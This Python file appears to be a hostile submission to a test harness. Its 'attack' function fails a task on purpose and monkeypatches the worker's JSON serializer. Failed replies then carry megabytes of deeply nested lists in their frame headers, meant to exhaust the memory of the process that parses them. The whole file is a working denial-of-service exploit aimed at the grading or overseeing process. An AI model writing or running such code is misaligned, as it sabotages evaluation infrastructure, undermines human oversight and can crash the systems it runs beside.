import json
import sys

FRAME_BYTES = (8 << 20) - 8192  # a reply's frame header may hold 8 MiB (client.MAX_REPLY_HEADER_BYTES)
DEPTH = 60  # lists nested 60 deep: within any JSON parser's depth bound
REPLIES = 8  # replies sent so (each a failed test of Problem 1)
_sent = []  # the replies sent so far


def nested_lists(size):
    """A JSON list of items "[[[...]]]": two characters a list, each a list object of 56 bytes with a
    slot for its one item once parsed (388 MiB of a Python process for 8 MiB of text, measured)."""
    item = "[" * DEPTH + "]" * DEPTH
    count = (size - 2) // (len(item) + 1)
    return "[" + ",".join([item] * count) + "]", count * DEPTH


class _Dumps:
    """Stands for the json module in the worker's frames.py (its write_frame calls json.dumps on the
    reply's frame header): the header it writes gains a key "padding" holding the lists above, as
    JSON, not as a string. The reply's value (a string the decoder counts the lists of) is untouched."""

    def __init__(self) -> None:
        self.padding, self.lists = None, 0

    def dumps(self, obj, **kwargs):
        text = json.dumps(obj, **kwargs)
        if len(_sent) >= REPLIES or not (isinstance(obj, dict) and obj.get("ok") is False):
            return text
        if self.padding is None:
            self.padding, self.lists = nested_lists(FRAME_BYTES - len(text) - 64)
        _sent.append(self.lists)
        return text[:-1] + ', "padding": ' + self.padding + "}"

    loads = staticmethod(json.loads)


def attack(args):
    """Every call fails (so Problem 1 loses its points whatever happens); its reply, the first REPLIES
    times, carries the padding in its frame header, which the test process parses with json.loads
    (frames.read_frame) before anything counts what it holds."""
    frames = sys.modules.get("frames")
    if frames is not None and not isinstance(frames.json, _Dumps):
        frames.json = _Dumps()
    raise ValueError(f"bytes_per_element fails on purpose (reply {len(_sent) + 1}, padded while "
                     f"{len(_sent)} < {REPLIES})")
